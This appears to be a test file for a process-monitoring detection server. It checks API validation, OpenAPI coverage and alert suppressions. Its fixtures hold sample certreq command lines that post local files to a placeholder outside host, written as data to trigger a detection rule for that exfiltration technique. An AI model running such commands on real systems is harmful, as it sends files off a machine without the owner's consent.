/**
 * The API contract (src/server/contract.ts): requests are validated against the declared schemas (unknown
 * parameters and fields, wrong types: a 400 naming the field, in the one error shape), every API payload is
 * snake_case outside the stored documents, GET /api/openapi.json names every route the server registered;
 * and API suppressions: preview, application to stored alerts, expiry (SQLite and PostgreSQL), and one engine
 * (a config-file suppression and an API suppression with the same criteria suppress the same alerts).
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { startServer, type RunningServer } from '../../src/cli/startServer.js';
import { defaultConfig, type ServeConfig } from '../../src/service/config.js';
import { parseWorkflows } from '../../src/respond/index.js';
import { ROUTES, type RouteContract } from '../../src/server/contract.js';
import { openApiPath } from '../../src/server/openapi.js';
import { scanStored } from '../../src/server/apiRoutes.js';
import { PostgresStore, SqliteStore } from '../../src/store/index.js';
import { AUTH, TOKEN, receiver } from './support/http.js';
import { ndjson, sysmonProcessCreate, type ProcessSpec } from './support/events.js';
import { PG_URL, requirePostgres, uniqueName } from '../scale/support/services.js';

const dirs: string[] = [];
function tmp(): string {
  const d = mkdtempSync(join(tmpdir(), 'pw-contract-'));
  dirs.push(d);
  return d;
}
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function config(over: Partial<ServeConfig> = {}): ServeConfig {
  return { ...defaultConfig(), port: 0, dataDir: tmp(), tokens: [{ name: 'analyst', token: TOKEN }], ...over };
}

type Json = Record<string, unknown>;

/** Every JSON answer of the API in this file, for the snake_case walk. */
const answers: { what: string; body: unknown }[] = [];

async function call(srv: RunningServer, method: string, path: string, body?: unknown): Promise<{ status: number; body: Json }> {
  const res = await fetch(`${srv.url}${path}`, {
    method,
    headers: { ...AUTH, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body) } : {}),
  });
  const text = await res.text();
  const parsed = text ? (JSON.parse(text) as Json) : {};
  if (path !== '/api/openapi.json') answers.push({ what: `${method} ${path}`, body: parsed });
  return { status: res.status, body: parsed };
}

async function ingest(srv: RunningServer, specs: ProcessSpec[]): Promise<void> {
  const res = await fetch(`${srv.url}/ingest`, { method: 'POST', headers: AUTH, body: ndjson(specs.map(sysmonProcessCreate)) });
  assert.equal(res.status, 200, await res.text());
}

let record = 1;
/** A certreq upload (the built-in rule fires) with these fields. */
function upload(over: Omit<ProcessSpec, 'recordId'> = {}): ProcessSpec {
  return { recordId: record++, ...over };
}

/** A 400 in the one error shape, naming `field`. */
function assertFieldError(r: { status: number; body: Json }, field: string, message?: RegExp): void {
  assert.equal(r.status, 400, JSON.stringify(r.body));
  assert.deepEqual(Object.keys(r.body).sort(), ['error', 'field']);
  assert.equal(r.body.field, field, JSON.stringify(r.body));
  if (message) assert.match(String(r.body.error), message);
}

/** Keys holding stored documents, which keep the names they were written with (ECS, Windows, YAML). */
const DOCUMENT_KEYS = new Set(['alert', 'request', 'result', 'detail', 'extra']);

function nonSnakeKeys(v: unknown, path: string, out: string[]): void {
  if (Array.isArray(v)) v.forEach((x, i) => nonSnakeKeys(x, `${path}[${i}]`, out));
  else if (v !== null && typeof v === 'object') {
    for (const [k, x] of Object.entries(v)) {
      if (!/^[a-z0-9_]+$/.test(k)) out.push(`${path}.${k}`);
      if (!DOCUMENT_KEYS.has(k)) nonSnakeKeys(x, `${path}.${k}`, out);
    }
  }
}

test('the contract: unknown parameters and fields, wrong types and bad JSON are a 400 naming the field; payloads are snake_case; OpenAPI lists every route', async () => {
  const hook = await receiver((_n, _r, res) => {
    res.statusCode = 200;
    res.end('ok');
  });
  const srv = await startServer(
    config({ workflows: parseWorkflows([{ name: 'soar', type: 'webhook', url: `${hook.url}/alerts`, secret: 'k', rules: ['certreq-download-upload'] }]) }),
    { notice: () => {} },
  );
  try {
    await ingest(srv, [upload({ host: 'CT01' }), upload({ host: 'CT02' })]);
    const list = await call(srv, 'GET', '/api/alerts?limit=5&severity=&q=');
    assert.equal(list.status, 200);
    const id = ((list.body.items as Json[])[0] as { id: string }).id;

    // Query parameters.
    assertFieldError(await call(srv, 'GET', '/api/alerts?qq=certreq'), 'qq', /^unknown query parameter "qq"$/);
    assertFieldError(await call(srv, 'GET', '/api/alerts?limit=ten'), 'limit', /must be integer/);
    assertFieldError(await call(srv, 'GET', '/api/alerts?limit=1001'), 'limit', /must be <= 1000/);
    assertFieldError(await call(srv, 'GET', '/api/alerts?suppressed=maybe'), 'suppressed', /boolean/);
    assertFieldError(await call(srv, 'GET', '/api/alerts?status=gone'), 'status', /expected one of open, acknowledged, closed/);
    assertFieldError(await call(srv, 'GET', '/api/alerts?since=yesterday'), 'since', /ISO 8601/);
    assertFieldError(await call(srv, 'GET', `/api/alerts?q=${'x'.repeat(201)}`), 'q');
    assertFieldError(await call(srv, 'GET', '/api/incidents?rule=x'), 'rule', /unknown query parameter/);
    assertFieldError(await call(srv, 'GET', '/api/actions?alert_id=x'), 'alert_id');
    assertFieldError(await call(srv, 'GET', '/api/audit?offset=-1'), 'offset');
    assertFieldError(await call(srv, 'GET', '/api/stats?hosts=CT01'), 'hosts');
    // Path parameters and bodies.
    assertFieldError(await call(srv, 'DELETE', '/api/suppressions/abc'), 'id', /integer/);
    assertFieldError(await call(srv, 'PATCH', `/api/alerts/${id}`, { status: 'acknowledged', colour: 'red' }), 'colour', /^unknown body field "colour"$/);
    assertFieldError(await call(srv, 'PATCH', `/api/alerts/${id}`, { status: 3 }), 'status');
    assertFieldError(await call(srv, 'PATCH', `/api/alerts/${id}`, { status: 'closed' }), 'reason', /required when closing/);
    assertFieldError(await call(srv, 'PATCH', `/api/alerts/${id}`, '{"status":'), 'body', /not JSON/);
    assertFieldError(await call(srv, 'PATCH', `/api/alerts/${id}`, '[1]'), 'body', /JSON object/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { host: 'CT01' }), 'reason', /required/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { host: 'CT01', reason: 7 }), 'reason', /string/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { host: 'CT01', reason: 'r', ruleId: 'x' }), 'ruleId', /unknown body field/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { reason: 'r' }), 'rule_id', /at least one of/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { host: 'x'.repeat(256), reason: 'r' }), 'host', /256|255/);
    assertFieldError(await call(srv, 'POST', '/api/suppressions', { host: 'CT01', reason: 'r', expires_at: '2001-01-01T00:00:00Z' }), 'expires_at', /not in the future/);
    assertFieldError(await call(srv, 'POST', '/api/actions/x/approve', { reason: 'ok', why: 1 }), 'why');
    // Other errors keep the shape (no field).
    const missing = await call(srv, 'GET', '/api/alerts/nope');
    assert.equal(missing.status, 404);
    assert.deepEqual(Object.keys(missing.body), ['error']);

    // Answers of every route kind, for the snake_case walk below.
    assert.equal((await call(srv, 'PATCH', `/api/alerts/${id}`, { status: 'acknowledged', assignee: 'me' })).status, 200);
    for (const p of ['/api/me', '/api/alerts', `/api/alerts/${id}`, '/api/incidents', '/api/rules', '/api/suppressions', '/api/actions', '/api/audit', '/api/health', '/api/stats']) {
      assert.equal((await call(srv, 'GET', p)).status, 200, p);
    }
    const incident = (((await call(srv, 'GET', '/api/incidents')).body.items as Json[])[0] as { id: string }).id;
    assert.equal((await call(srv, 'GET', `/api/incidents/${incident}`)).status, 200);
    const actions = (await call(srv, 'GET', '/api/actions')).body.items as Json[];
    assert.ok(actions.length > 0, 'the workflow planned actions');
    assert.ok('alert_id' in actions[0]! && !('alertId' in actions[0]!), 'actions: snake_case, old names gone');
    assert.equal((await call(srv, 'GET', `/api/actions/${String(actions[0]!.id)}`)).status, 200);
    const created = await call(srv, 'POST', '/api/suppressions', { host: 'CT02', reason: 'test host' });
    assert.equal(created.status, 201);
    assert.equal((await call(srv, 'POST', '/api/suppressions/preview', { host: 'CT0?', reason: 'r' })).status, 200);

    const offenders: string[] = [];
    for (const a of answers) nonSnakeKeys(a.body, a.what, offenders);
    assert.deepEqual(offenders, [], 'keys outside stored documents are snake_case');
    assert.ok(answers.length >= 40);

    // OpenAPI 3.1 generated from the same table, every registered route present.
    const res = await fetch(`${srv.url}/api/openapi.json`, { headers: AUTH });
    assert.equal(res.status, 200);
    const doc = JSON.parse(await res.text()) as { openapi: string; paths: Record<string, Record<string, Json>> };
    assert.equal(doc.openapi, '3.1.0');
    const contracts: RouteContract[] = Object.values(ROUTES);
    for (const c of contracts) {
      const op = doc.paths[openApiPath(c.url)]?.[c.method.toLowerCase()];
      assert.ok(op, `${c.method} ${c.url} in the document`);
      if (c.body) assert.ok(op.requestBody, `${c.method} ${c.url}: request body schema`);
      if (c.querystring) assert.ok((op.parameters as { name: string }[]).some((p) => p.name === 'limit' || p.name === 'q'), `${c.method} ${c.url}: query parameters`);
    }
    const alertsOp = doc.paths['/api/alerts']!.get!;
    assert.deepEqual(((alertsOp.parameters as Json[]).find((p) => p.name === 'limit') as { schema: Json }).schema.maximum, 1000);
    for (const [path, ops] of Object.entries(doc.paths)) {
      for (const method of Object.keys(ops)) {
        const url = path.replace(/\{path\}$/, '*').replace(/\{([A-Za-z0-9_]+)\}/g, ':$1');
        assert.ok(srv.app.hasRoute({ method: method.toUpperCase() as 'GET', url }), `${method} ${path} is a registered route`);
      }
    }
    for (const [method, path] of [['post', '/ingest'], ['post', '/_bulk'], ['post', '/{index}/_bulk'], ['post', '/services/collector/event'], ['get', '/healthz'], ['get', '/console/{path}']] as const) {
      assert.ok(doc.paths[path]?.[method], `${method} ${path} (outside the JSON contract) is listed too`);
    }
    const operations = Object.values(doc.paths).reduce((n, ops) => n + Object.keys(ops).length, 0);
    assert.ok(operations > contracts.length + 10, `${operations} operations`);
  } finally {
    await srv.close();
    await hook.close();
  }
});

/** Preview, apply and expiry against a running server on the given store. */
async function suppressionLifecycle(srv: RunningServer): Promise<void> {
  await ingest(srv, [
    upload({ host: 'LAB01', user: 'CORP\\bob' }),
    upload({ host: 'LAB02', user: 'CORP\\bob' }),
    upload({ host: 'LAB02', user: 'CORP\\carol' }),
    upload({ host: 'WS07', user: 'CORP\\bob' }),
    upload({ host: 'WS08', user: 'CORP\\dave' }),
  ]);
  const body = { host: 'lab*', user: 'bob', reason: 'lab hosts test certificate uploads' };
  const preview = await call(srv, 'POST', '/api/suppressions/preview', body);
  assert.equal(preview.status, 200, JSON.stringify(preview.body));
  assert.equal(preview.body.matched, 2);
  assert.equal(preview.body.scanned, 5);
  assert.equal(preview.body.capped, false);
  const examples = preview.body.examples as { host: string; suppressed: boolean }[];
  assert.deepEqual(examples.map((e) => e.host).sort(), ['LAB01', 'LAB02']);
  assert.equal((await call(srv, 'GET', '/api/alerts?suppressed=true')).body.total, 0, 'a preview changes nothing');

  const created = await call(srv, 'POST', '/api/suppressions', body);
  assert.equal(created.status, 201, JSON.stringify(created.body));
  assert.deepEqual(created.body.applied, { matched: 2, scanned: 5, capped: false, suppressed: 2 });
  const suppressed = (await call(srv, 'GET', '/api/alerts?suppressed=true')).body.items as { id: string; host: string; alert: Json }[];
  assert.deepEqual(suppressed.map((a) => a.host).sort(), ['LAB01', 'LAB02']);
  assert.deepEqual((suppressed[0]!.alert.procwatch as Json).suppressed, { by: `suppression:${String(created.body.id)}`, reason: body.reason });
  const trail = (await call(srv, 'GET', `/api/audit?target=${suppressed[0]!.id}`)).body.items as { action: string; actor: string }[];
  assert.ok(trail.some((e) => e.action === 'alert.suppress' && e.actor === 'analyst'), 'audited with the actor');
  // New alerts too.
  await ingest(srv, [upload({ host: 'LAB03', user: 'LAB\\bob' })]);
  assert.equal((await call(srv, 'GET', '/api/alerts?host=LAB03&suppressed=true')).body.total, 1);

  // Expiry: applied to stored alerts at creation, to new ones until it expires; the list shows it.
  const expiresAt = new Date(Date.now() + 1500).toISOString();
  const timed = await call(srv, 'POST', '/api/suppressions', { host: 'WS08', reason: 'maintenance window', expires_at: expiresAt });
  assert.equal(timed.status, 201);
  assert.equal((timed.body.applied as Json).suppressed, 1);
  let listed = ((await call(srv, 'GET', '/api/suppressions')).body.items as { id: number; expires_at: string | null; expired: boolean }[]).find((s) => s.id === timed.body.id);
  assert.deepEqual([listed?.expires_at, listed?.expired], [expiresAt, false]);
  await ingest(srv, [upload({ host: 'WS08', user: 'CORP\\erin' })]);
  assert.equal((await call(srv, 'GET', '/api/alerts?host=WS08&suppressed=false')).body.total, 0, 'before expiry: suppressed');
  await new Promise((r) => setTimeout(r, Math.max(0, Date.parse(expiresAt) - Date.now()) + 50));
  listed = ((await call(srv, 'GET', '/api/suppressions')).body.items as { id: number; expires_at: string | null; expired: boolean }[]).find((s) => s.id === timed.body.id);
  assert.equal(listed?.expired, true);
  await ingest(srv, [upload({ host: 'WS08', user: 'CORP\\frank' })]);
  assert.equal((await call(srv, 'GET', '/api/alerts?host=WS08&suppressed=false')).body.total, 1, 'after expiry: a new alert is not suppressed');
}

test('suppressions on SQLite: preview counts stored alerts with examples, creation applies to stored and new alerts, expiry ends it', async () => {
  const srv = await startServer(config(), { notice: () => {} });
  try {
    await suppressionLifecycle(srv);
  } finally {
    await srv.close();
  }
});

test('suppressions on PostgreSQL: preview, apply, expiry', async () => {
  await requirePostgres();
  const schema = uniqueName('pw_contract');
  const store = await new PostgresStore({ url: PG_URL, schema }).open();
  const srv = await startServer(config(), { store, notice: () => {} });
  try {
    await suppressionLifecycle(srv);
  } finally {
    await srv.close();
    const admin = new pg.Client({ connectionString: PG_URL });
    await admin.connect();
    await admin.query(`DROP SCHEMA IF EXISTS "${schema}" CASCADE`);
    await admin.end();
  }
});

test('the stored-alert scan is bounded: beyond the limit the answer says it is capped', async () => {
  const store = new SqliteStore({ path: join(tmp(), 'procwatch.db') });
  try {
    const alerts = Array.from({ length: 7 }, (_, i) => ({
      id: `a${i}`,
      eventKey: `k${i}`,
      ruleId: 'r1',
      severity: 'high' as const,
      time: `2024-05-01T10:00:0${i}Z`,
      host: 'CAP01',
      suppressed: false,
      doc: { rule: { id: 'r1' }, host: { name: 'CAP01' } },
    }));
    await store.commit([], { alerts, actions: [] });
    const s = { ruleId: null, host: 'CAP*', user: null, image: null, parentImage: null, commandLine: null, reason: 'r', expiresAt: null, createdBy: 't' };
    const capped = await scanStored(store, s, 3);
    assert.deepEqual([capped.matched.length, capped.scanned, capped.capped], [3, 3, true]);
    const all = await scanStored(store, s, 100);
    assert.deepEqual([all.matched.length, all.scanned, all.capped], [7, 7, false]);
  } finally {
    await store.close();
  }
});

test('one engine: a config-file suppression and an API suppression with the same criteria suppress the same alerts', async () => {
  // Criteria in both notations (the config file's keys, the API body's fields), in the same order.
  const criteria: { yaml: Json; api: Json }[] = [
    { yaml: { host: 'EQ-LAB*' }, api: { host: 'EQ-LAB*' } },
    { yaml: { user: 'mallory' }, api: { user: 'mallory' } },
    { yaml: { user: 'CORP\\trent', command_line: '*-post*' }, api: { user: 'CORP\\trent', command_line: '*-post*' } },
    { yaml: { parent_image: '*\\explorer.exe' }, api: { parent_image: '*\\explorer.exe' } },
    { yaml: { image: '*\\temp\\*', host: 'EQ-WS0?' }, api: { image: '*\\temp\\*', host: 'EQ-WS0?' } },
    { yaml: { rule: 'certreq-download-upload', host: 'EQ-SRV01' }, api: { rule_id: 'certreq-download-upload', host: 'EQ-SRV01' } },
  ];
  const events: ProcessSpec[] = [];
  const hosts = ['EQ-LAB01', 'EQ-WS01', 'EQ-WS10', 'EQ-SRV01', 'EQ-SRV02'];
  const users = ['CORP\\mallory', 'OTHER\\mallory', 'CORP\\trent', 'LAB\\trent', 'CORP\\victor'];
  const parents = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe'];
  const images = ['C:\\Windows\\System32\\certreq.exe', 'C:\\Users\\x\\AppData\\Local\\Temp\\certreq.exe'];
  const commands = ['certreq -Post -config https://e.invalid/u C:\\a.txt C:\\b.txt', 'CertReq.exe -post -config https://e.invalid/v C:\\c.txt C:\\d.txt'];
  let n = 0;
  for (const host of hosts) {
    for (const user of users) {
      const i = n++;
      events.push({ recordId: 50_000 + i, host, user, parentImage: parents[i % 2]!, image: images[i % 5 === 4 || i % 3 === 0 ? 1 : 0]!, commandLine: commands[(i >> 2) % 2]! });
    }
  }
  const dir = tmp();
  const yamlPath = join(dir, 'triage.yml');
  writeFileSync(yamlPath, JSON.stringify({ suppressions: criteria.map((c, i) => ({ id: `s${i + 1}`, reason: `criteria ${i + 1}`, ...c.yaml })) }));
  const byConfig = await startServer(config({ correlationConfig: yamlPath }), { notice: () => {} });
  const byApi = await startServer(config(), { notice: () => {} });
  try {
    for (const c of criteria) assert.equal((await call(byApi, 'POST', '/api/suppressions', { ...c.api, reason: 'same criteria' })).status, 201);
    await ingest(byConfig, events);
    await ingest(byApi, events);
    const outcome = async (srv: RunningServer, by: (s: string) => string): Promise<Map<string, string>> => {
      const items = (await call(srv, 'GET', '/api/alerts?limit=1000')).body.items as { id: string; suppressed: boolean; alert: Json }[];
      return new Map(items.map((a) => [a.id, a.suppressed ? by(String(((a.alert.procwatch as Json).suppressed as Json).by)) : '-']));
    };
    const fromConfig = await outcome(byConfig, (s) => s.replace(/^s/, ''));
    const fromApi = await outcome(byApi, (s) => s.replace(/^suppression:/, ''));
    assert.ok(fromConfig.size >= events.length, 'every event alerted');
    assert.deepEqual(fromApi, fromConfig, 'the same alerts suppressed, by the same (first matching) criteria');
    const counts = new Map<string, number>();
    for (const v of fromConfig.values()) counts.set(v, (counts.get(v) ?? 0) + 1);
    for (let i = 1; i <= criteria.length; i++) assert.ok((counts.get(String(i)) ?? 0) > 0, `criteria ${i} matched something (${JSON.stringify([...counts])})`);
    assert.ok((counts.get('-') ?? 0) > 0, 'some alerts stay unsuppressed');
  } finally {
    await byConfig.close();
    await byApi.close();
  }
});
